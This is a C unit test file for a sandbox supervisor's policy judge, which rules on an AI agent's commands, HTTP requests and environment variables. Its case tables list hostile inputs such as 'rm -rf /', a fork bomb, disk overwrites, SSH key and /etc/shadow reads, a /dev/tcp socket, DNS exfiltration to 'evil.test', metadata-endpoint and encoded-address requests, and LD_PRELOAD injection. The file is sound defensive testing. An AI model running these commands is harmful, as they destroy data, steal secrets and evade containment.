/* SPDX-License-Identifier: Apache-2.0 */
/* The judge over the shipped policy: tables of questions and answers, the mode lattice, what a launch's environment becomes. */
#include "supervisor/judge/judge.h"

#include "supervisor/analyze/arena.h"
#include "supervisor/base/cleanup.h"

#include <arpa/inet.h>
#include <errno.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/un.h>
#include <time.h>

#include <cmocka.h>

#include "tests/unit/shipped_policy.h"

static const char *const roots[] = { "/workspace", "/tmp", "/home/agent", NULL };
static const char *const launch_environment[] = { "PATH=/usr/bin:/bin", "PYTHONPATH=/opt/image", "HOME=/home/agent", NULL };

static struct judge_subject subject_in(enum mode mode)
{
	return (struct judge_subject){ .mode = mode, .home = "/home/agent", .write_roots = roots, .launch_environment = launch_environment };
}

static char verdict_letter(enum verdict verdict)
{
	return verdict == VERDICT_ALLOW ? 'a' : verdict == VERDICT_REVIEW ? 'r' : 'd';
}

/* Every answer, whatever it is, has to be complete and printable. */
static void check_form(const struct decision *d)
{
	const char *c;

	assert_non_null(d->rule);
	assert_non_null(d->origin.file);
	assert_int_equal(d->verdict == VERDICT_DENY, d->tag != NULL);
	assert_true(d->reason[0]);
	for (c = d->reason; *c; c++)
		assert_true(*c >= 0x20 && *c < 0x7f);
}

static struct decision ask(enum mode mode, const struct action *action)
{
	struct judge_subject subject = subject_in(mode);
	struct decision d;

	memset(&d, 0xa5, sizeof(d));
	judge(policy, &subject, action, &d);
	check_form(&d);
	return d;
}

/* ---- exec ---- */

struct exec_case {
	const char *program, *argv[6];
	const char *expected;		/* a letter for guarded, observe, readonly */
};

static const struct exec_case exec_cases[] = {
	/* plain readers; the program's own name decides, whatever argv[0] says */
	{ "/usr/bin/cat", { "cat", "README.md" }, "aaa" },
	{ "/usr/bin/cat", { "/usr/bin/cat", "/etc/passwd" }, "aad" },
	{ "/usr/bin/cat", { "cat", "../x" }, "aad" },
	{ "/usr/bin/cat", { "cat", "config/.env" }, "aad" },
	{ "/usr/bin/cat", { "cat", "-n", "src/main.c" }, "aaa" },
	{ "/usr/bin/grep", { "grep", "-f/etc/shadow", "x" }, "aad" },
	{ "/usr/bin/grep", { "grep", "--file=/etc/shadow", "x" }, "aad" },
	{ "/usr/bin/ls", { "ls" }, "aaa" },
	{ "/usr/bin/ps", { "ps", "aux" }, "aad" },
	{ "/usr/bin/rm", { "cat", "x" }, "ddd" },
	{ "/usr/bin/cat", { "rm", "x" }, "ddd" },
	{ "/usr/bin/id", { "" }, "aad" },
	/* options */
	{ "/usr/bin/sort", { "sort", "x" }, "aaa" },
	{ "/usr/bin/sort", { "sort", "-uoout", "x" }, "rrd" },
	{ "/usr/bin/sort", { "sort", "x", "-o", "y" }, "rrd" },
	{ "/usr/bin/sort", { "sort", "--", "-o" }, "aaa" },
	{ "/usr/bin/sort", { "sort", "--compress-prog=sh", "x" }, "rrd" },
	{ "/usr/bin/rg", { "rg", "-n", "-A3", "x" }, "aaa" },
	{ "/usr/bin/rg", { "rg", "--pre", "sh", "x" }, "rrd" },
	{ "/usr/bin/rg", { "rg", "-uz", "x" }, "rrd" },
	{ "/usr/bin/curl", { "curl", "http://x" }, "rrd" },
	{ "/usr/bin/curl", { "curl", "-X", "GET", "http://x" }, "rrd" },
	{ "/usr/bin/curl", { "curl", "-XDELETE", "http://x" }, "rdd" },
	{ "/usr/bin/curl", { "curl", "http://x", "--request=PUT" }, "rdd" },
	{ "/usr/bin/curl", { "curl", "-sd@f", "http://x" }, "rdd" },
	{ "/usr/bin/curl", { "curl", "--upload-f", "a", "http://x" }, "rdd" },
	{ "/usr/bin/wget", { "wget", "--meth=POST", "http://x" }, "rdd" },
	/* destruction, permissions, power, devices */
	{ "/usr/bin/rm", { "rm", "-rf", "/" }, "ddd" },
	{ "/usr/bin/shred", { "shred", "x" }, "ddd" },
	{ "/usr/sbin/mkfs.ext4", { "mkfs.ext4", "x" }, "ddd" },
	{ "/usr/bin/chmod", { "chmod", "777", "x" }, "ddd" },
	{ "/usr/bin/systemctl", { "poweroff" }, "ddd" },
	{ "/usr/bin/dd", { "dd", "if=a", "of=b" }, "rrd" },
	/* what runs something else: seen again at its own exec, except where nothing is seen */
	{ "/usr/bin/bash", { "bash", "-c", "rm -rf /" }, "aad" },
	{ "/usr/bin/dash", { "sh", "-lc", "ls" }, "aad" },
	{ "/usr/bin/bash", { "-bash" }, "aad" },
	{ "/usr/bin/env", { "env", "rm", "x" }, "aad" },
	{ "/usr/bin/sudo", { "sudo", "ls" }, "ddd" },
	{ "/usr/bin/timeout", { "timeout", "5", "ls" }, "ddd" },
	{ "/usr/bin/xargs", { "xargs", "ls" }, "ddd" },
	{ "/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2", { "ld.so", "/bin/rm" }, "ddd" },
	{ "/usr/bin/busybox", { "busybox", "ls" }, "ddd" },
	{ "/usr/bin/busybox", { "/bin/ls", "x" }, "aaa" },
	{ "/usr/bin/busybox", { "rm", "x" }, "ddd" },
	{ "/usr/bin/busybox", { "sh" }, "aad" },
	{ "/usr/bin/busybox", { "mystery" }, "rrd" },
	/* code, unknown programs, and names that agents chose themselves */
	{ "/usr/bin/python3.11", { "python3", "x.py" }, "rrd" },
	{ "/usr/bin/mystery", { "mystery" }, "rrd" },
	{ "/usr/bin/mystery", { "mystery", "delete", "x" }, "rrd" },
	{ NULL, { "mystery", "delete", "x" }, "ddd" },
	{ "/workspace/ls", { "ls" }, "rrd" },
	{ "/home/agent/bin/cat", { "cat" }, "rrd" },
	{ "/tmp/rm", { "rm" }, "ddd" },
	{ "/usr/bin/ls", { "mystery" }, "aaa" },
	/* Cordon's own and hidden */
	{ "/run/cordon/x", { "x" }, "ddd" },
	/* check: no program is known */
	{ NULL, { "ls", "-la", "/workspace" }, "aaa" },
	{ NULL, { "/usr/bin/rm", "x" }, "ddd" },
	{ NULL, { "./ls" }, "rrd" },
	{ NULL, { "/workspace/../usr/bin/ls", "x" }, "aaa" },
	{ NULL, { "env", "rm", "x" }, "ddd" },
	{ NULL, { "bash", "x.sh" }, "rrd" },
	{ NULL, { "" , "x" }, "ddd" },
	{ NULL, { "dir/" , "x" }, "ddd" },
	{ NULL, { NULL }, "ddd" },
	{ "/usr/bin/ls", { NULL }, "ddd" },
};

static void programs_are_judged_by_what_they_do(void **state)
{
	size_t i, m;

	(void)state;
	for (i = 0; i < ARRAY_SIZE(exec_cases); i++)
		for (m = MODE_OFF; m < MODE_COUNT; m++) {
			const struct exec_case *c = &exec_cases[i];
			const struct action action = { .kind = ACTION_EXEC, .program = c->program, .argv = c->argv, .cwd = "/workspace/src" };
			const struct decision d = ask((enum mode)m, &action);
			const char expected = m > MODE_OFF ? c->expected[m - 1] : c->program && strncmp(c->program, "/run/cordon", 11) == 0 ? 'd' : 'a';

			if (verdict_letter(d.verdict) != expected)
				fail_msg("%s %s (%s %s): expected %c, got %s: %s", mode_name((enum mode)m), c->program ? c->program : "-",
					 c->argv[0] ? c->argv[0] : "", c->argv[0] && c->argv[1] ? c->argv[1] : "", expected, d.rule, d.reason);
		}
}

static void scripts_are_their_interpreter_and_themselves(void **state)
{
	static const struct { const char *program, *interpreter, *expected; } cases[] = {
		{ "/usr/bin/egrep", "/usr/bin/dash", "aad" },
		{ "/workspace/run.sh", "/usr/bin/dash", "rrd" },
		{ "/workspace/cat", "/usr/bin/dash", "rrd" },
		{ "/usr/bin/mystery", "/usr/bin/python3.11", "rrd" },
		{ "/workspace/x", "/usr/bin/rm", "ddd" },
		{ "/usr/bin/egrep", "/workspace/sh", "rrd" },
	};
	static const char *const argv[] = { "x", NULL };
	size_t i, m;

	(void)state;
	for (i = 0; i < ARRAY_SIZE(cases); i++)
		for (m = MODE_GUARDED; m < MODE_COUNT; m++) {
			const struct action action = { .kind = ACTION_EXEC, .program = cases[i].program, .interpreter = cases[i].interpreter,
						       .argv = argv, .cwd = "/workspace" };
			const struct decision d = ask((enum mode)m, &action);

			if (verdict_letter(d.verdict) != cases[i].expected[m - 1])
				fail_msg("%s by %s: %s %s", cases[i].program, cases[i].interpreter, d.rule, d.reason);
		}
}

/* git gc runs git reflog expire, by another file of the image's; the same words from anybody else are what they are. */
static void a_tool_is_its_own_helper(void **state)
{
	static const struct { const char *caller, *program; char expected; } cases[] = {
		{ "/usr/bin/git", "/usr/lib/git-core/git", 'a' }, { "/usr/bin/git", "/usr/bin/git", 'a' }, { NULL, "/usr/bin/git", 'd' }, { "/usr/bin/bash", "/usr/bin/git", 'd' },
		{ "/workspace/git", "/usr/bin/git", 'd' }, { "/tmp/git", "/usr/bin/git", 'd' }, { "/usr/bin/git", "/workspace/git", 'd' },
	};
	static const char *const argv[] = { "git", "reflog", "expire", "--all", NULL }, *const removes[] = { "rm", "x", NULL };
	const struct action rm = { .kind = ACTION_EXEC, .program = "/usr/bin/rm", .caller = "/usr/bin/rm", .argv = removes, .cwd = "/workspace" };
	size_t i;

	(void)state;
	for (i = 0; i < ARRAY_SIZE(cases); i++) {
		const struct action action = { .kind = ACTION_EXEC, .program = cases[i].program, .caller = cases[i].caller, .argv = argv, .cwd = "/workspace" };

		if (verdict_letter(ask(MODE_GUARDED, &action).verdict) != cases[i].expected)
			fail_msg("%s by %s: %s", cases[i].program, cases[i].caller ? cases[i].caller : "-", ask(MODE_GUARDED, &action).reason);
	}
	assert_int_equal(ask(MODE_GUARDED, &rm).verdict, VERDICT_DENY);
}

/* tar -tz starts gzip, git fsck git commit-graph: the tool was judged. Not what goes further than files, nor for anybody else's sake. */
static void a_tool_starts_its_helpers(void **state)
{
	static const struct { const char *caller, *program, *interpreter, *argv[4]; char expected; } cases[] = {
		{ "/usr/bin/tar", "/usr/bin/gzip", NULL, { "gzip", "-d" }, 'a' },
		{ "/usr/bin/tar", "/usr/bin/xz", NULL, { "xz", "-d" }, 'a' },
		{ "/usr/bin/tar", "/usr/bin/curl", NULL, { "curl", "http://a.test/" }, 'r' },
		{ "/usr/bin/tar", "/usr/bin/rm", NULL, { "rm", "f" }, 'd' },
		{ "/usr/bin/tar", "/usr/bin/gzip", "/usr/bin/dash", { "gzip", "-d" }, 'r' },
		{ "/usr/bin/tar", "/workspace/gzip", NULL, { "gzip", "-d" }, 'r' },
		{ "/workspace/tar", "/usr/bin/gzip", NULL, { "gzip", "-d" }, 'r' },
		{ "/usr/bin/bash", "/usr/bin/gzip", NULL, { "gzip", "-d" }, 'r' },
		{ NULL, "/usr/bin/gzip", NULL, { "gzip", "-d" }, 'r' },
		{ "/usr/bin/git", "/usr/lib/git-core/git", NULL, { "git", "commit-graph", "verify" }, 'a' },
		{ "/usr/bin/git", "/usr/bin/git", NULL, { "git", "fetch", "origin" }, 'r' },	/* a clone without its objects, asked by git log */
		{ "/usr/bin/git", "/usr/bin/git", NULL, { "git", "push" }, 'd' },
		{ "/usr/bin/git", "/usr/bin/git", NULL, { "git", "remote-ext", "x" }, 'r' },
		{ "/usr/bin/find", "/usr/bin/find", NULL, { "find", "x", "-delete" }, 'd' },	/* one that its words made it run */
	};

	(void)state;
	for (size_t i = 0; i < ARRAY_SIZE(cases); i++) {
		const struct action action = { .kind = ACTION_EXEC, .program = cases[i].program, .interpreter = cases[i].interpreter, .caller = cases[i].caller,
					       .argv = cases[i].argv, .cwd = "/workspace" };
		const struct decision d = ask(MODE_GUARDED, &action);

		if (verdict_letter(d.verdict) != cases[i].expected || (d.verdict == VERDICT_ALLOW) != (d.by == BY_HELPER))
			fail_msg("%s by %s: %s %s", cases[i].program, cases[i].caller ? cases[i].caller : "-", d.rule, d.reason);
	}
}

/* /etc/profile asks "id -u": a login shell in readonly goes on without a word of it, and no command of an agent's is that. */
static void readonly_start_files_ask_who_they_are(void **state)
{
	static const char *const id[] = { "id", "-u", NULL }, *const ps[] = { "ps", "aux", NULL };
	static const struct { const char *caller, *program, *const *argv; bool allowed; } cases[] = {
		{ "/usr/bin/bash", "/usr/bin/id", id, true }, { "/usr/bin/dash", "/usr/bin/id", id, true },
		{ NULL, "/usr/bin/id", id, false }, { "/usr/bin/python3.11", "/usr/bin/id", id, false }, { "/workspace/bash", "/usr/bin/id", id, false },
		{ "/usr/bin/bash", "/workspace/id", id, false }, { "/usr/bin/bash", NULL, id, false }, { "/usr/bin/bash", "/usr/bin/ps", ps, false },
	};

	(void)state;
	for (size_t i = 0; i < ARRAY_SIZE(cases); i++) {
		const struct action action = { .kind = ACTION_EXEC, .program = cases[i].program, .caller = cases[i].caller, .argv = cases[i].argv, .cwd = "/workspace" };

		if ((ask(MODE_READONLY, &action).verdict == VERDICT_ALLOW) != cases[i].allowed)
			fail_msg("case %zu: %s", i, ask(MODE_READONLY, &action).reason);
	}
}

/* cat f 2>/dev/null is allowed as a text, so the shell has to be able to open it. */
static void readonly_writes_to_what_keeps_nothing(void **state)
{
	static const struct { const char *path; bool allowed; } cases[] = {
		{ "/dev/null", true }, { "/dev/tty", true }, { "/dev/sda", false }, { "/dev/zero", false }, { "/dev/shm/x", false }, { "/dev/null/x", false },
		{ "/workspace/dev/null", false },
	};

	(void)state;
	for (size_t i = 0; i < ARRAY_SIZE(cases); i++) {
		const struct action action = { .kind = ACTION_WRITE, .path = cases[i].path };

		if ((ask(MODE_READONLY, &action).verdict == VERDICT_ALLOW) != cases[i].allowed)
			fail_msg("%s: %s", cases[i].path, ask(MODE_READONLY, &action).reason);
	}
}

static void followed_wrappers_are_judged_where_they_exec(void **state)
{
	const char *const argv[] = { "timeout", "5", "ls", NULL }, *const ld[] = { "ld.so", "ls", NULL };
	struct action action = { .kind = ACTION_EXEC, .program = "/usr/bin/timeout", .argv = argv, .cwd = "/workspace" };

	(void)state;
	policy->wrappers_follow = true;
	assert_int_equal(ask(MODE_GUARDED, &action).verdict, VERDICT_ALLOW);
	assert_int_equal(ask(MODE_READONLY, &action).verdict, VERDICT_DENY);
	action.program = "/usr/bin/sudo";
	assert_int_equal(ask(MODE_GUARDED, &action).verdict, VERDICT_DENY);
	action.program = "/usr/lib/ld-linux.so.2";
	action.argv = ld;
	assert_int_equal(ask(MODE_GUARDED, &action).verdict, VERDICT_DENY);
	policy->wrappers_follow = false;
}

static char arena_block[4 << 20];

static struct decision ask_text(enum mode mode, const char *text, const struct scope *scope)
{
	const char *const argv[] = { text, NULL };
	const struct action action = { .kind = ACTION_EXEC, .argv = argv, .shell_text = true, .cwd = "/workspace" };
	struct arena arena = { .data = arena_block, .len_bytes = sizeof(arena_block) };
	struct judge_subject subject = { .mode = mode, .home = "/home/agent", .scope = scope, .arena = &arena };
	struct decision d;

	judge(policy, &subject, &action, &d);
	check_form(&d);
	return d;
}

struct follow_case {
	const char *text;
	char expected;		/* in guarded, where wrappers are followed; blocked, each is denied */
};

static const struct follow_case follow_cases[] = {
	{ "timeout 5 cat f", 'a' }, { "timeout 5 rm f", 'd' }, { "timeout 5 sort -o g f", 'r' }, { "timeout 5", 'r' },
	{ "nice -n 5 nohup setsid stdbuf -o0 env A=1 cat f", 'a' }, { "nice nohup setsid stdbuf -o0 env A=1 rm f", 'd' },
	{ "env LD_PRELOAD=x cat f", 'd' }, { "timeout 5 $x", 'd' }, { "timeout $x cat f", 'd' }, { "timeout 5 ./f", 'r' }, { "timeout 5 /tmp/f", 'd' },
	{ "ls | xargs cat", 'a' }, { "ls | xargs -n 1 -P 4 rm", 'd' }, { "ls | xargs sort", 'r' }, { "ls | xargs", 'r' }, { "ls | xargs git -c core.pager=x log", 'd' },
	{ "ls | xargs sh -c 'cat \"$@\"'", 'r' }, { "ls | xargs sh -c 'rm \"$@\"' x", 'd' }, { "ls | xargs sh", 'd' }, { "ls | xargs -I{} {} f", 'd' },
	{ "watch -n 1 ls -l", 'a' }, { "watch 'ls; rm f'", 'd' }, { "watch ls ';' rm f", 'd' }, { "watch -x rm f", 'd' }, { "watch $x", 'd' },
	{ "flock -n l cat f", 'a' }, { "flock l -c 'rm f'", 'd' }, { "script -q -c 'rm f' /dev/null", 'd' }, { "/usr/bin/time -p cat f", 'a' }, { "taskset 1 rm f", 'd' },
	{ "timeout 5 sh -c 'timeout 5 rm f'", 'd' }, { "timeout 5 bash -c 'cat f'", 'r' }, { "exec cat f", 'a' }, { "command rm f", 'd' },
	{ "timeout 1 timeout 1 timeout 1 timeout 1 timeout 1 timeout 1 timeout 1 timeout 1 timeout 1 timeout 1 cat f", 'd' },
	{ "find . -exec timeout 5 rm {} ';'", 'd' }, { "find . -exec timeout 5 cat {} ';'", 'a' },
	{ "parallel cat ::: f", 'r' }, { "sudo cat f", 'd' }, { "sudo timeout 5 cat f", 'd' }, { "timeout 5 sudo cat f", 'd' }, { "doas cat f", 'd' }, { "su -c 'cat f'", 'd' },
	{ "chroot / cat f", 'd' }, { "unshare -r cat f", 'd' }, { "nsenter -t 1 cat f", 'd' }, { "strace cat f", 'd' },
	{ "busybox cat f", 'd' }, { "timeout 5 busybox cat f", 'd' }, { "ld.so /bin/cat f", 'd' }, { "timeout 5 /lib64/ld-linux-x86-64.so.2 /bin/cat f", 'd' },
};

static void followed_wrappers_are_peeled_in_text(void **state)
{
	size_t i;

	(void)state;
	for (i = 0; i < ARRAY_SIZE(follow_cases); i++) {
		struct decision d;

		policy->wrappers_follow = true;
		d = ask_text(MODE_GUARDED, follow_cases[i].text, NULL);
		policy->wrappers_follow = false;
		if (verdict_letter(d.verdict) != follow_cases[i].expected)
			fail_msg("%s: followed %c, expected %c: %s", follow_cases[i].text, verdict_letter(d.verdict), follow_cases[i].expected, d.reason);
		d = ask_text(MODE_GUARDED, follow_cases[i].text, NULL);
		if (d.verdict != VERDICT_DENY)
			fail_msg("%s: blocked: %s", follow_cases[i].text, d.reason);
	}
	policy->wrappers_follow = true;
	assert_int_equal(ask_text(MODE_READONLY, "timeout 5 cat f", NULL).verdict, VERDICT_DENY);
	assert_string_equal(ask_text(MODE_GUARDED, "timeout 5 sudo -S cat f", NULL).tag, "hardline");
	assert_string_equal(ask_text(MODE_GUARDED, "timeout 5 nice rm -rf /", NULL).tag, "hardline");
	policy->wrappers_follow = false;
}

static void command_texts_are_judged_command_by_command(void **state)
{
	static const struct { const char *text; char expected; const char *tag; } cases[] = {
		{ "ls -la /workspace", 'a', NULL }, { " \tls\t-l ", 'a', NULL }, { "rm -rf x", 'd', "policy_block" }, { "head -n5 a,b:c@d+e=f%g", 'a', NULL },
		{ "", 'd', "invalid_request" }, { "   ", 'd', "invalid_request" },
		{ "ls;rm x", 'd', "policy_block" }, { "ls\nrm x", 'd', "policy_block" }, { "ls\rrm", 'd', "incomplete_evidence" },
		{ "ls | wc", 'a', NULL }, { "ls & wc < x", 'a', NULL }, { "ls > x", 'r', NULL }, { "ls < x", 'a', NULL }, { "ls $HOME", 'a', NULL }, { "ls `id`", 'a', NULL },
		{ "ls \"a\"", 'a', NULL }, { "l\\s", 'a', NULL }, { "ls *", 'a', NULL }, { "ls # x", 'a', NULL }, { "(ls)", 'a', NULL }, { "A=1 ls", 'a', NULL }, { "time ls", 'd', "incomplete_evidence" },
		{ "ls\xc2\xa0x", 'd', "incomplete_evidence" }, { "ls\x01", 'd', "incomplete_evidence" }, { "echo \"x", 'd', "incomplete_evidence" },
		/* the strongest reason wins, and its tag */
		{ "rm -rf /", 'd', "hardline" }, { "sudo rm -rf /", 'd', "hardline" }, { "timeout 5 rm -rf /etc", 'd', "hardline" }, { "ls; env rm -rf ~", 'd', "hardline" }, { "bash -c 'rm -rf \"$HOME\"'", 'd', "hardline" },
		{ "find / -exec rm -rf / \\;", 'd', "hardline" }, { "rm -rf /*", 'd', "hardline" }, { "rm -rf /workspace/../etc", 'd', "hardline" }, { "chown -R x /", 'd', "hardline" }, { "kill -9 -1", 'd', "hardline" },
		{ "dd if=x of=/dev/sda", 'd', "hardline" }, { "echo x > /dev/sda", 'd', "hardline" }, { "mkfs.ext4 /dev/sda", 'd', "hardline" }, { ":(){ :|:& };:", 'd', "hardline" }, { "shutdown now", 'd', "hardline" },
		{ "sudo -S ls", 'd', "hardline" }, { "sudo ls", 'd', "policy_block" }, { "timeout 5 ls", 'd', "incomplete_evidence" },
		/* paths, roots, start files */
		{ "cp x /etc/cron.d/y", 'd', "outside_root" }, { "cat ~/.ssh/id_rsa", 'd', "protected_path" }, { "cp x .git/config", 'd', "protected_path" }, { "tee ~/.bashrc < x", 'd', "policy_block" },
		{ "cat /proc/1/environ", 'r', NULL }, { "cat .env", 'r', NULL }, { "rm -f /tmp/x", 'r', NULL }, { "rm -f /tmp/../etc/x", 'd', "policy_block" }, { "rm -rf /tmp", 'd', "policy_block" }, { "rm /tmp/$x", 'd', "policy_block" },
		/* what is made while it runs */
		{ "$X ls", 'd', "incomplete_evidence" }, { "sort $X", 'r', NULL }, { "cat $X", 'a', NULL }, { "grep -r --include=*.py x .", 'a', NULL }, { "find . -exec $X {} +", 'd', "incomplete_evidence" },
		{ "sh", 'd', "incomplete_evidence" }, { "bash x.sh", 'r', NULL }, { "cat x | bash", 'd', "incomplete_evidence" }, { "bash <<< 'rm x'", 'd', "policy_block" }, { "bash <<< ls", 'r', NULL }, { "bash < x.sh", 'r', NULL },
		{ "python3 x.py", 'r', NULL }, { "python3 /tmp/x.py", 'd', "incomplete_evidence" }, { "python3 x.py; ls", 'd', "incomplete_evidence" }, { "cd src && python3 x.py", 'r', NULL }, { "cd /tmp && ./x", 'd', "incomplete_evidence" },
		{ "PATH=/tmp ls", 'd', "environment" }, { "export LD_PRELOAD=x", 'd', "environment" }, { "read PATH < x", 'd', "environment" }, { "exec 3<>/dev/tcp/h/80", 'd', "unresolved_network_mutation" },
		{ "awk 'BEGIN{system(\"rm x\")}'", 'd', "policy_block" }, { "sed -n 1p x", 'a', NULL }, { "sed 's/a/b/e' x", 'r', NULL }, { "agent-browser click @e1", 'd', "stale_snapshot" },
		{ "xargs rm < x", 'd', "policy_block" }, { "GIT reset", 'd', "incomplete_evidence" }, { "mystery", 'r', NULL }, { "mystery delete x", 'd', "policy_block" },
	};
	static char many[2 * 1300 + 1], long_text[70000];
	size_t i;

	(void)state;
	for (i = 0; i < ARRAY_SIZE(cases); i++) {
		const struct decision d = ask_text(MODE_GUARDED, cases[i].text, NULL);

		if (verdict_letter(d.verdict) != cases[i].expected || (d.tag && (!cases[i].tag || strcmp(d.tag, cases[i].tag) != 0)))
			fail_msg("'%s': %s %s %s", cases[i].text, d.tag ? d.tag : "-", d.rule, d.reason);
		assert_int_equal(ask_text(MODE_READONLY, cases[i].text, NULL).verdict == VERDICT_ALLOW && cases[i].expected != 'a', 0);
		assert_int_equal(ask_text(MODE_OFF, cases[i].text, NULL).verdict, VERDICT_ALLOW);
	}
	for (i = 0; i < 1300; i++)
		memcpy(many + 2 * i, "l ", 3);
	memset(long_text, 'l', sizeof(long_text) - 1);
	assert_string_equal(ask_text(MODE_GUARDED, many, NULL).tag, "incomplete_evidence");
	assert_string_equal(ask_text(MODE_GUARDED, long_text, NULL).tag, "incomplete_evidence");
}

static void requests_are_held_to_the_scope(void **state)
{
	static const struct { const char *text; const char *expected; } cases[] = {	/* guarded, observe; without a scope, guarded */
		{ "curl http://target.test/", "aar" }, { "curl http://evil.test/", "rdr" }, { "curl http://target.test@evil.test/", "rdr" }, { "curl http://127.0.0.1/", "aad" }, { "curl http://10.0.0.1/", "rdd" },
		{ "curl http://0x7f.1/", "rdd" }, { "curl http://134744072/", "rdd" }, { "curl http://0xa9fea9fe/", "ddd" }, { "curl http://169.254.169.254/", "ddd" }, { "curl http://metadata.google.internal/", "ddd" }, { "curl http://localhost:9222/", "ddd" }, { "curl -L http://target.test/", "rrr" },
		{ "curl -d x http://target.test/", "rdr" }, { "curl http://target.test/logout", "rdr" }, { "curl 'http://target.test/?_method=PUT'", "rdr" }, { "curl 'http://target.test/?q=drop+table+x'", "ddd" },
		{ "curl http://target.test/ http://evil.test/", "rdr" }, { "curl gopher://target.test/", "rdr" }, { "curl \"$URL\"", "rdr" }, { "dig target.test", "aar" }, { "dig $(id).evil.test", "rdr" }, { "nmap target.test", "rrr" },
		{ "curl http://target.test./", "aar" }, { "curl http://TARGET.test/", "aar" }, { "curl http://target.test:8080/", "aar" }, { "curl http://xn--target-x.test/", "rdr" },
	};
	struct scope scope = { 0 };
	size_t i;

	(void)state;
	assert_int_equal(scope_parse("target.test,127.0.0.1,localhost", &scope, NULL), 0);
	for (i = 0; i < ARRAY_SIZE(cases); i++) {
		const char got[] = { verdict_letter(ask_text(MODE_GUARDED, cases[i].text, &scope).verdict), verdict_letter(ask_text(MODE_OBSERVE, cases[i].text, &scope).verdict),
				     verdict_letter(ask_text(MODE_GUARDED, cases[i].text, NULL).verdict), '\0' };

		if (strcmp(got, cases[i].expected) != 0)
			fail_msg("%s: expected %s, got %s: %s", cases[i].text, cases[i].expected, got, ask_text(MODE_GUARDED, cases[i].text, &scope).reason);
	}
	scope_free(&scope);
}

static void http_requests_are_judged_by_method_and_place(void **state)
{
	static const struct { const char *method, *url, *expected; } cases[] = {	/* guarded, observe, readonly */
		{ "GET", "https://example.com/", "aad" }, { "HEAD", "https://example.com/", "aad" }, { "POST", "https://example.com/", "rdd" }, { "PURGE", "https://example.com/", "rdd" }, { "TRACE", "https://example.com/", "rrd" },
		{ "get", "https://example.com/", "rdd" }, { "GET", "ftp://example.com/", "ddd" }, { "GET", "example.com", "ddd" }, { "GET", "https://a b/", "ddd" }, { "G T", "https://example.com/", "ddd" },
		{ "GET", "http://127.1/", "ddd" }, { "GET", "http://2130706433/", "ddd" }, { "GET", "http://0177.0.0.1/", "ddd" }, { "GET", "http://0x7f000001/", "ddd" }, { "GET", "http://[::ffff:10.0.0.1]/", "ddd" },
		{ "GET", "http://[fe80::1%25eth0]/", "ddd" }, { "GET", "http://localhost./", "ddd" }, { "GET", "http://a.LOCALHOST/", "ddd" }, { "GET", "http://user@10.0.0.1/", "ddd" }, { "GET", "http://example.com\\@10.0.0.1/", "ddd" },
		{ "GET", "http://ex\xc3\xa4mple.com/", "ddd" }, { "GET", "http://1.2.3.4.5/", "ddd" }, { "GET", "http://256.1.1.1/", "ddd" }, { "GET", "http://1.1.1.1:99999/", "ddd" }, { "GET", "http:///x", "ddd" },
		{ "GET", "https://1.1.1.1:8443/x?y#z", "aad" }, { "GET", "https://example.com/account/delete", "rdd" }, { "GET", "https://example.com/?q=1;drop%20table%20x", "ddd" }, { "GET", "//example.com/", "ddd" }, { "GET", "", "ddd" },
	};
	size_t i, m;

	(void)state;
	for (i = 0; i < ARRAY_SIZE(cases); i++)
		for (m = MODE_GUARDED; m < MODE_COUNT; m++) {
			const struct action action = { .kind = ACTION_HTTP, .method = cases[i].method, .url = cases[i].url };
			const struct decision d = ask((enum mode)m, &action);

			if (verdict_letter(d.verdict) != cases[i].expected[m - 1])
				fail_msg("%s %s in %s: %s %s", cases[i].method, cases[i].url, mode_name((enum mode)m), d.rule, d.reason);
		}
}

static int compare_times(const void *a, const void *b)
{
	const long x = *(const long *)a, y = *(const long *)b;

	return (x > y) - (x < y);
}

/* The goal is 50 us for a typical line (DESIGN 12); ten times that is a fault on any machine, sanitizers and neighbours included. */
static void a_typical_line_is_decided_quickly(void **state)
{
	static const char *const typical[] = { "grep -rn 'password' src | head -50", "curl -s http://target.test/api/users?id=1", "cd src && git log --oneline -10", "find . -name '*.py' -exec wc -l {} +",
					       "nmap -sV -p 80,443 target.test", "python3 scan.py --target target.test", "cat a.json | jq -r '.items[] | .name'", "ls -la /workspace && cat README.md" };
	static long times[8 * 200];
	struct timespec begin, end;
	size_t i;

	(void)state;
	for (i = 0; i < ARRAY_SIZE(times); i++) {
		clock_gettime(CLOCK_MONOTONIC, &begin);
		ask_text(MODE_GUARDED, typical[i % ARRAY_SIZE(typical)], NULL);
		clock_gettime(CLOCK_MONOTONIC, &end);
		times[i] = (end.tv_sec - begin.tv_sec) * 1000000000 + end.tv_nsec - begin.tv_nsec;
	}
	qsort(times, ARRAY_SIZE(times), sizeof(*times), compare_times);
	printf("# judge(): a command text: median %.1f us, p99 %.1f us\n", (double)times[ARRAY_SIZE(times) / 2] / 1000, (double)times[ARRAY_SIZE(times) * 99 / 100] / 1000);
	assert_true(times[ARRAY_SIZE(times) / 2] < 500000);
}

static void an_exec_brings_no_code_loading_names_of_its_own(void **state)
{
	static const struct { const char *entry; char expected; } cases[] = {
		{ "PATH=/workspace/bin", 'a' }, { "HOME=/tmp", 'a' }, { "GIT_DIR=/workspace/.git", 'a' }, { "MAKEFLAGS=j", 'a' }, { "FOO=bar", 'a' },
		{ "PYTHONPATH=/opt/image", 'a' }, { "PYTHONPATH=/workspace", 'd' }, { "PYTHONPATH=/opt/imag", 'd' }, { "PYTHONPATH", 'd' },
		{ "LD_PRELOAD=x.so", 'd' }, { "LD_PRELOAD=", 'd' }, { "BASH_ENV=x", 'd' }, { "BASH_FUNC_ls%%=() { rm x; }", 'd' },
		{ "GIT_SSH_COMMAND=x", 'd' }, { "NODE_OPTIONS=-r x", 'd' }, { "AGENT_BROWSER_SESSION=x", 'd' }, { "RIPGREP_CONFIG_PATH=x", 'd' },
	};
	const char *const argv[] = { "ls", NULL };
	size_t i;

	(void)state;
	for (i = 0; i < ARRAY_SIZE(cases); i++) {
		const char *const environment[] = { "PATH=/usr/bin:/bin", cases[i].entry, NULL };
		const struct action action = { .kind = ACTION_EXEC, .program = "/usr/bin/ls", .argv = argv, .environment = environment };
		const struct decision d = ask(MODE_GUARDED, &action);

		if (verdict_letter(d.verdict) != cases[i].expected)
			fail_msg("%s: %s", cases[i].entry, d.reason);
		if (d.verdict == VERDICT_DENY)
			assert_string_equal(d.tag, "environment");
		assert_int_equal(ask(MODE_OFF, &action).verdict, VERDICT_ALLOW);
	}
}

/* ---- paths ---- */

